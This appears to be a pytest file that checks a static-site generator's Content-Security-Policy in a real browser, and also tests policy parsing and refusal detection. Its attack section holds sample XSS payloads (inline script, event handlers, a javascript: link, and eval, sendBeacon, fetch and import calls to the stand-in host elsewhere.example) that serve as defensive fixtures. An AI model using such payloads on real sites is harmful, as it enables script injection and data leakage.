"""Pages ask no other host for anything, and run only the site's own files: the policy, in a real browser."""

import functools
import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler
from io import BytesIO
from pathlib import Path
from typing import Any

import material
import pytest
from loopback import serve
from lxml import html
from mkdocs.commands.build import build as mkdocs_build
from mkdocs.config import load_config
from mkdocs.exceptions import Abort
from site_project import ROOT, build, make_project
from test_browser_site import PATHS, SLUG, WORDS, open_page, search  # noqa: F401  # a fixture
from test_web_quality import kinds

from generator.errors import SiteError
from generator.site import policy, refusals

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">\n')
# Chromium asks it what to fill into forms, whatever a page says
BROWSERS_OWN = "content-autofill.googleapis.com:443"
ELSEWHERE = "http://elsewhere.example"
THEME = Path(material.__file__).parent / "templates"
OURS = ROOT / "templates" / "theme"


# --- ways to publish a site


class Published(SimpleHTTPRequestHandler):
    """A host that reads the file of headers."""

    def send_head(self) -> Any:
        """Send the page, changed."""
        page = super().send_head()
        if page is None or not self.path.partition("?")[0].endswith(("/", ".html")):
            return page
        with page:
            data = self.changed(page.read().decode()).encode()
        return BytesIO(data)

    def copyfile(self, source: Any, outputfile: Any) -> None:
        """A browser that goes to another page wants no more of this one."""
        with suppress(ConnectionError):
            super().copyfile(source, outputfile)

    def send_header(self, keyword: str, value: str) -> None:
        """The length is that of the page before its change."""
        if keyword != "Content-Length":
            super().send_header(keyword, value)

    def end_headers(self) -> None:
        """Add what the file says."""
        for line in Path(self.directory, "_headers").read_text("utf-8").splitlines()[1:]:
            name, _, value = line.partition(": ")
            self.send_header(name.strip(), value)
        super().end_headers()

    def changed(self, page: str) -> str:
        """The policy that the page has itself is taken out."""
        return META.sub("", page)

    def log_message(self, *_: object) -> None: ...


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site at an address of its own, of reviewed briefings alone."""
    project = make_project(tmp_path_factory.mktemp("reviewed"))
    languages = "default: en\nlanguages: {en: {engine: none}, ar: {engine: none}}\n"
    (project / "site_config" / "languages.yml").write_text(languages)
    shutil.rmtree(project / "briefings" / "harbour-strike")
    briefing = project / "briefings" / SLUG / "briefing.yml"
    briefing.write_text(briefing.read_text("utf-8").replace("status: draft", "status: reviewed"), "utf-8")
    settings = project / "mkdocs.yml"
    settings.write_text(settings.read_text("utf-8").replace("publish: all", "publish: reviewed"), "utf-8")
    build(project, site_url="https://dragoman.example/")
    return project / "site"


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """All other hosts: where a browser is to ask for them, and what it asked."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path != BROWSERS_OWN:
                asked.append(self.path)
            self.send_error(404)

        do_POST = do_HEAD = do_CONNECT = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None: ...

    with serve(Answer) as address:
        yield address, asked


# --- nothing is asked elsewhere, and nothing of ours is refused


@pytest.mark.browser
@pytest.mark.parametrize("way", ["in the pages", "in headers"])
def test_no_kind_of_page_asks_another_host_or_does_what_the_policy_forbids(
    open_page: Callable[..., Any],  # noqa: F811
    built_site: Path,
    reviewed: Path,
    elsewhere: tuple[str, list[str]],
    way: str,
) -> None:
    proxy, asked = elsewhere
    site = built_site if way == "in the pages" else reviewed
    handler = site if way == "in the pages" else functools.partial(Published, directory=str(site))
    with serve(handler) as address:
        # it fails at anything that the console says, as it does of all that is refused
        page = open_page(address, proxy={"server": proxy, "bypass": "127.0.0.1"})
        # test_web_quality opens each kind in other languages too, and fails at what the console says
        found = kinds(built_site, "en")
        others = ("", "about/", "topics/", "harbour-strike/")  # the last of which nobody has translated
        found += [PATHS[language] + path for language in ("ar", "zh") for path in others]
        assert len(found) >= 13
        for path in found if site == built_site else ("", f"ar/{SLUG}/", "topics/", "ar/404.html"):
            page.goto(address + path)
        page.goto(f"{address}ar/{SLUG}/")
        assert page.evaluate("document.styleSheets.length") == 4
        search(page, WORDS["ar"][0])
        page.locator(".md-search-result__link").first.click()
        page.locator(".dm-summary .dm-cite").first.hover()
        page.locator(".dm-note:popover-open").wait_for()
        page.keyboard.press("Escape")
        page.locator("form[data-md-component=palette] label:not([hidden])").click()
        page.locator(".md-select button").hover()
        page.emulate_media(media="print")
        page.locator(".dm-read-in a").first.wait_for(state="hidden")
        # not HTML: Chromium looks for an icon then, and styles JSON itself, which the policy forbids
        context = page.context.browser.new_context(proxy={"server": proxy, "bypass": "127.0.0.1"})
        bare = context.new_page()
        for name in [f"{SLUG}/briefing.json", *(["feed.xml", "feed.json"] if site == reviewed else [])]:
            bare.goto(address + name)
            assert "Norland" in bare.inner_text(":root")
        context.close()
    assert asked == []


def test_pages_have_nothing_that_runs_inside_them_and_load_nothing_from_elsewhere(
    built_site: Path, reviewed: Path
) -> None:
    pages = [*built_site.rglob("*.html"), *reviewed.rglob("*.html")]
    assert len(pages) > 60
    for path in pages:
        text = path.read_text("utf-8")
        root = html.document_fromstring(text.encode())
        assert len(META.findall(text)) == 1, path
        # after nothing but the encoding
        assert root.find("head")[1].get("http-equiv") == "Content-Security-Policy"
        scripts = [script.get("type") for script in root.iter("script") if script.get("src") is None]
        assert set(scripts) <= {"application/json", "application/ld+json", "speculationrules"}, path
        assert not list(root.iter("style", "base", "iframe", "object", "embed")), path
        attributes = {name for element in root.iter() for name in element.keys()}  # noqa: SIM118
        assert not [name for name in attributes if name == "style" or name.startswith("on")], path
        links = root.xpath("//link[not(@rel='canonical' or @rel='alternate ')]")
        assert {link.get("rel") for link in links} <= {"icon", "stylesheet"}, path
        loaded = [*(link.get("href") for link in links), *root.xpath("//@src")]
        assert not [url for url in loaded if ":" in url or url.startswith("//")], path


@pytest.mark.browser
def test_a_page_that_is_opened_from_a_disk_looks_and_does_as_it_should(
    browser: Any, built_site: Path
) -> None:
    faults: list[str] = []
    context = browser.new_context(color_scheme="dark")
    page = context.new_page()
    page.on("console", lambda message: faults.append(message.text))
    page.goto((built_site / "ar" / SLUG / "index.html").as_uri())
    assert page.evaluate("document.styleSheets.length") == 4
    assert page.locator("body").get_attribute("data-md-color-scheme") == "slate"
    page.locator(".dm-summary .dm-cite").first.hover()
    page.locator(".dm-note:popover-open").wait_for()
    context.close()
    assert not faults
    # in Firefox, no file is of one site with another
    (told,) = META.findall((built_site / "index.html").read_text("utf-8"))
    assert told.count("'self'") == told.count("'self' file:") == 3


# --- the policy is in force


ATTACK = f"""
<script>ran("script in the page")</script>
<script src="{ELSEWHERE}/script.js"></script>
<img src="{ELSEWHERE}/image.png" onerror="ran('handler')">
<style>.md-header {{ background: url({ELSEWHERE}/style.png) }}</style>
<p style="background: url({ELSEWHERE}/attribute.png)">p</p>
<iframe src="{ELSEWHERE}/frame"></iframe>
<object data="{ELSEWHERE}/object"></object>
<a href="javascript:ran('address')" id="address">a</a>
<form action="{ELSEWHERE}/form"><button id="form">b</button></form>
<script src="/attack.js"></script>
<base href="{ELSEWHERE}/base/">
</article>"""
# what a script of the site could do, were its author to be tricked
SCRIPT = f"""
const ran = what => (window.done ??= []).push(what)
for (const run of [
  () => eval("ran('eval')"), () => new Function("ran('function')")(),
  () => document.head.insertAdjacentHTML("beforeend", "<img src=x onerror=ran('inserted')>"),
  () => navigator.sendBeacon("{ELSEWHERE}/beacon"), () => new Worker("data:text/javascript,1"),
]) try {{ run() }} catch {{}}
setTimeout("ran('timeout')")
fetch("{ELSEWHERE}/fetch").catch(() => {{}})
import("{ELSEWHERE}/module.js").catch(() => {{}})
"""


class Attacked(Published):
    """A host of a page that somebody got markup into."""

    protected_by = ""

    def do_GET(self) -> None:
        """Serve the page, and a script."""
        if self.path != "/attack.js":
            super().do_GET()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(SCRIPT.encode())

    def end_headers(self) -> None:
        """With the policy or without."""
        if self.protected_by == "headers":
            super().end_headers()
        else:
            BaseHTTPRequestHandler.end_headers(self)

    def changed(self, page: str) -> str:
        """With the policy or without; with what should not run."""
        page = page if self.protected_by == "meta" else META.sub("", page)
        early, _, late = page.partition("<script src=")
        return f'{early}<script src="/attack.js"></script><script src={late}'.replace("</article>", ATTACK, 1)


@pytest.mark.browser
@pytest.mark.parametrize("protection", ["", "meta", "headers"])
def test_what_does_not_belong_to_the_site_neither_runs_nor_asks(
    browser: Any, reviewed: Path, elsewhere: tuple[str, list[str]], protection: str
) -> None:
    proxy, asked = elsewhere
    attacked = type("AttackedThus", (Attacked,), {"protected_by": protection})
    context = browser.new_context(proxy={"server": proxy, "bypass": "127.0.0.1"})
    with serve(functools.partial(attacked, directory=str(reviewed))) as address:
        page = context.new_page()
        page.goto(f"{address}{SLUG}/")
        page.locator("#address").click()
        page.wait_for_timeout(200)
        done = page.evaluate("window.done ?? []")
        page.evaluate("document.getElementById('form').form.submit()")
        page.wait_for_timeout(200)
    context.close()
    assert {path.partition(":")[0] for path in asked} <= {"http"}
    if protection:
        assert (done, asked) == ([], [])
    else:  # the attack is one
        assert {*done} >= {
            "script in the page",
            "handler",
            "address",
            "eval",
            "function",
            "inserted",
            "timeout",
        }
        names = ("script.js", "image.png", "style.png", "attribute.png", "frame", "object", "form")
        assert {path.partition("?")[0] for path in asked} >= {
            f"{ELSEWHERE}/{name}" for name in (*names, "beacon", "fetch", "module.js")
        }


# --- what Material has in scripts inside its pages


INLINE = re.compile(r"<script(?![^>]*\b(?:src|type)=)[^>]*>(.*?)</script>", re.DOTALL)


def test_each_script_that_material_has_inside_its_pages_is_known() -> None:
    found = {
        path.relative_to(THEME).as_posix(): INLINE.findall(path.read_text("utf-8"))
        for path in THEME.rglob("*.html")
    }
    partials = {path for path, scripts in found.items() if scripts}
    ours = {path.relative_to(OURS).as_posix() for path in OURS.glob("partials/javascripts/*.html")}
    assert ours == {
        f"partials/javascripts/{name}.html" for name in ("announce", "base", "content", "palette")
    }
    # these are of features that nobody uses here; where a project does, the build tells what to allow
    features = {"partials/javascripts/consent.html", "partials/javascripts/outdated.html"}
    features |= {path for path in partials if path.startswith("partials/integrations/analytics")}
    assert partials - features == ours | {"redirect.html"}
    # what they read and do, which head.js does in their place
    code = " ".join(script for path in sorted(ours) for script in found[path])
    head = (OURS / "assets/javascripts/head.js").read_text("utf-8")
    bundle = next(THEME.glob("assets/javascripts/bundle.*.js")).read_text("utf-8")
    names = set(re.findall(r"__md_[a-z]+", code + bundle)) - {
        "__md_hash",
        "__md_get",
        "__md_set",
        "__md_scope",
    }
    assert not names
    hooks = set(re.findall(r'(?<=")__(?!md_)[a-z]+|data-md-[a-z-]+|(?<=\.)(?:md|tabbed)-[a-z]+', code))
    assert hooks == {
        *("__palette", "__tabs", "__tabbed", "__announce", "data-md-component", "data-md-color-"),
        *("data-md-color-media", "data-md-color-scheme", "data-md-color-primary", "data-md-color-accent"),
        *("md-typeset", "tabbed-set", "tabbed-labels"),
    }
    assert all(hook in head or hook.startswith("data-md-color-") for hook in hooks)
    assert "<style" not in (THEME / "base.html").read_text("utf-8").replace("<style>:root{--md-text-font", "")


FRAMES = """(() => {
  window.frames_ = []
  const see = () => {
    if (document.querySelector("main")) frames_.push(document.body.dataset.mdColorScheme)
    requestAnimationFrame(see)
  }
  requestAnimationFrame(see)
})()"""
STORED = """(() => {
  const color = {media: "(prefers-color-scheme%s)", scheme: "%s"}
  localStorage.setItem("/.__palette", JSON.stringify({color}))
})()"""


@pytest.mark.browser
def test_a_page_has_its_colours_before_it_shows_anything_of_itself(browser: Any, built_site: Path) -> None:
    context = browser.new_context(color_scheme="dark")
    with serve(built_site) as address:
        for stored, wanted in (
            (None, "slate"),
            (STORED % ("", "default"), "slate"),
            (STORED % (": light", "default"), "default"),
        ):
            page = context.new_page()
            page.add_init_script(FRAMES)
            if stored:
                page.add_init_script(stored)
            # Material's script never comes: all is done before it
            page.route("**/bundle.*.js", lambda route: route.abort())
            page.goto(f"{address}ar/{SLUG}/")
            page.wait_for_function("frames_.length > 2")
            assert set(page.evaluate("frames_")) == {wanted}
    context.close()


# --- what a project does for itself


SCRIPT_OF_A_PAGE = "document.title = 'ran'"
PAGE = f"""# A page

| a | b |
|--:|:-:|
| 1 | 2 |

=== "One"

    1

=== "Two"

    2

![]({ELSEWHERE}/image.png)

<p style="color: red" onclick="go()">x</p>

<script>{SCRIPT_OF_A_PAGE}</script>
"""
BANNER = """{% extends "main.html" %}
{% block announce %}<b>Strike on Friday</b>{% endblock %}
"""


@pytest.fixture
def own(project: Path) -> Path:
    """A project with a page, a style sheet and scripts of its own, in one language."""
    (project / "site_config" / "languages.yml").write_text("default: en\nlanguages: {en: {engine: none}}\n")
    shutil.rmtree(project / "briefings" / "harbour-strike")
    pages = project / "site_config" / "pages"
    (pages / "own.en.md").write_text(f"---\ntemplate: own.html\n---\n{PAGE}", "utf-8")
    (project / "templates" / "theme" / "own.html").write_text(BANNER)
    (pages / "own.css").write_text(
        f'@import "{ELSEWHERE}/font.css";\np {{ background: url({ELSEWHERE}/p.png) }}'
    )
    (pages / "own.js").write_text("window.mine = 1")
    settings = project / "mkdocs.yml"
    text = settings.read_text("utf-8").replace(
        "  features:", "  features:\n    - announce.dismiss\n    - content.tabs.link"
    )
    more = f"extra_css: [own.css]\nextra_javascript: [own.js, {ELSEWHERE}/stats.js]\n"
    settings.write_text(f"{text}{more}markdown_extensions:\n  - pymdownx.tabbed: {{alternate_style: true}}\n")
    return project


def allow(project: Path, setting: str) -> None:
    """Have it as the only setting of the plugin."""
    path = project / "mkdocs.yml"
    begin, _, rest = path.read_text("utf-8").partition("  - dragoman:\n")
    _, _, end = rest.partition("\nextra:")
    path.write_text(f"{begin}  - dragoman:\n      {setting}\n\nextra:{end}", "utf-8")


@pytest.mark.browser
def test_what_would_be_refused_is_told_with_what_allows_it(
    browser: Any, own: Path, elsewhere: tuple[str, list[str]], caplog: pytest.LogCaptureFixture
) -> None:
    with pytest.raises(Abort):
        build(own)
    (told,) = (record.getMessage() for record in caplog.records if record.levelname == "WARNING")
    for line in (
        f"mkdocs.yml: extra_javascript: {ELSEWHERE}/stats.js",
        f"site_config/pages/own.css:1: {ELSEWHERE}/font.css",
        f"site_config/pages/own.css:2: {ELSEWHERE}/p.png",
        f"site_config/pages/own.en.md:18: {ELSEWHERE}/image.png",
        "site_config/pages/own.en.md:20: style=",
        "site_config/pages/own.en.md:20: onclick=",
        f"site_config/pages/own.en.md:22: {SCRIPT_OF_A_PAGE}",
    ):
        assert f"\n  {line}\n" in told
    assert "own.js" not in told
    allow(own, told.splitlines()[-1].strip())
    build(own)
    assert f"script-src 'self' 'inline-speculation-rules' {ELSEWHERE} 'sha256-" in headers(own)
    context = browser.new_context(proxy={"server": elsewhere[0], "bypass": "127.0.0.1"})
    with serve(own / "site") as address:
        page = context.new_page()
        page.goto(f"{address}own/")
        assert page.title() == "ran"
        assert page.evaluate("window.mine")
        cells = page.locator(".md-typeset td").evaluate_all(
            "all => all.map(e => getComputedStyle(e).textAlign)"
        )
        assert [cell.removeprefix("-webkit-") for cell in cells] == ["right", "center"]
        # what the reader puts away and opens is so again when she comes back, before Material's script
        page.locator(".md-banner__button").click()
        page.locator("label", has_text="Two").click()
        page.route("**/bundle.*.js", lambda route: route.abort())
        page.goto(f"{address}about/")
        page.goto(f"{address}own/")
        assert not page.locator(".md-banner").is_visible()
        assert [tab.is_checked() for tab in page.locator(".tabbed-set > input").all()] == [False, True]
        page.evaluate("localStorage.clear()")
        page.goto(f"{address}own/?again#__tabbed_1_2")
        assert page.locator(".md-banner").is_visible()
        assert [tab.is_checked() for tab in page.locator(".tabbed-set > input").all()] == [False, True]
    context.close()
    assert {*elsewhere[1]} == {
        f"{ELSEWHERE}/{name}" for name in ("stats.js", "font.css", "p.png", "image.png")
    }


def headers(project: Path) -> str:
    return (project / "site" / "_headers").read_text("utf-8")


def test_a_project_may_have_headers_of_its_own_and_no_policy(project: Path) -> None:
    (project / "site_config" / "languages.yml").write_text("default: en\nlanguages: {en: {engine: none}}\n")
    own = project / "site_config" / "pages" / "_headers"
    own.write_text("/*\n  X-Mine: 1\n")
    build(project)
    assert headers(project) == "/*\n  X-Mine: 1\n"
    own.unlink()
    build(project)
    assert f"  Content-Security-Policy: {policy.text_of(policy.OWN)}\n" in headers(project)
    allow(project, "content_security_policy:")
    build(project)
    assert "Content-Security-Policy" not in headers(project)
    assert "X-Content-Type-Options: nosniff\n" in headers(project)
    assert not META.search((project / "site" / "index.html").read_text("utf-8"))
    # mkdocs adds a script to the pages that it serves, which a policy would forbid
    allow(project, "publish: all")
    config = load_config(str(project / "mkdocs.yml"))
    config.plugins.on_startup(command="serve", dirty=False)
    try:
        mkdocs_build(config)
    finally:  # mkdocs gives the same plugin to the next build of this process
        config.plugins.on_startup(command="build", dirty=False)
    assert "Content-Security-Policy:" in headers(project)
    assert not META.search((project / "site" / "index.html").read_text("utf-8"))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("script-source *", r"script-source: unknown directive; did you mean 'script-src'\?"),
        ("img-src *; IMG-SRC 'self'", "img-src: is there twice"),
        ("script-src", "script-src: names nothing; what allows nothing is written as 'none'"),
        ("script-src self", "script-src: self would be a host of that name; write 'self', in single quotes"),
        ("script-src sha256-AAAA=", "write 'sha256-AAAA='"),
        ("script-src 'selfie'", r"script-src: 'selfie' is unknown; did you mean"),
        ("img-src 'none' *", "img-src: 'none' stands alone"),
        ("img-src https//example.org", "img-src: 'https//example.org' is no address of a host"),
        ('img-src "self"', "is no address of a host"),
        ("img-src *, script-src *", "'\\*,' is no address of a host"),
        ("img-src *\n<x>: 1", "'<x>:' is no address of a host"),
        ('report-uri /a"><script>', "report-uri: .* has letters that no policy has"),
        ("img-src пример.рф", "is no address of a host"),
    ],
)
def test_a_policy_that_browsers_would_not_understand_is_an_error(text: str, message: str) -> None:
    with pytest.raises(SiteError, match=message):
        policy.read(text)


def test_a_mistake_in_the_setting_ends_the_build_with_what_to_do(
    project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    allow(project, "content_security_policy: script-src self")
    with pytest.raises(Abort):
        build(project)
    (told,) = (record.getMessage() for record in caplog.records if record.levelname == "ERROR")
    assert "option 'content_security_policy': script-src: self would be a host" in told
    assert not (project / "site").exists()


@pytest.mark.parametrize(
    ("text", "page", "is_refused"),
    [
        ("img-src https:", '<img src="https://a.example/x">', False),
        ("img-src https:", '<img src="http://a.example/x">', True),
        ("img-src *.a.example", '<img src="//b.a.example/x">', False),
        ("img-src *.a.example", '<img src="//a.example/x">', True),
        ("img-src https://a.example:8000/x/", '<img src="https://a.example:8000/x/y">', False),
        ("img-src https://a.example:8000/x/", '<img src="https://a.example:8000/y">', True),
        ("img-src *", '<img srcset="//a.example/1 1x, //a.example/2 2x">', False),
        ("img-src 'self'", '<img src="data:image/png,">', True),
        ("child-src https://a.example", '<iframe src="https://a.example/">', False),
        ("script-src 'nonce-abc'", '<script nonce="abc">1</script>', False),
        ("script-src 'unsafe-inline'", '<script>1</script><p onclick="1">', False),
        ("font-src 'self'", '<a href="https://a.example/">', False),
        ("font-src 'self'", '<img src="/x"><img src="https://dragoman.example/x"><script src="x">', False),
        ("font-src 'self'", '<script type="application/ld+json">{}</script><template>', False),
        ("font-src 'self'", '<img src="http://[x"><img src="//a.example:x/"><a onclick>', True),
        ("font-src 'self'", '<img src="http://[x"><img src="//a.example:x/">', False),
        ("font-src 'self'", '<object data="x">', True),
        ("font-src 'self'", '<form action="/x">', True),
        ("font-src 'self'", '<link rel="stylesheet preload" href="https://a.example/x">', True),
        ("", '<script>1</script><img src="https://a.example/x"><p style="x">', False),
    ],
)
def test_what_browsers_refuse_is_known_beforehand(text: str, page: str, is_refused: bool) -> None:
    found = list(refusals.in_page(page, policy.read(text), "https://dragoman.example/"))
    assert bool(found) is is_refused
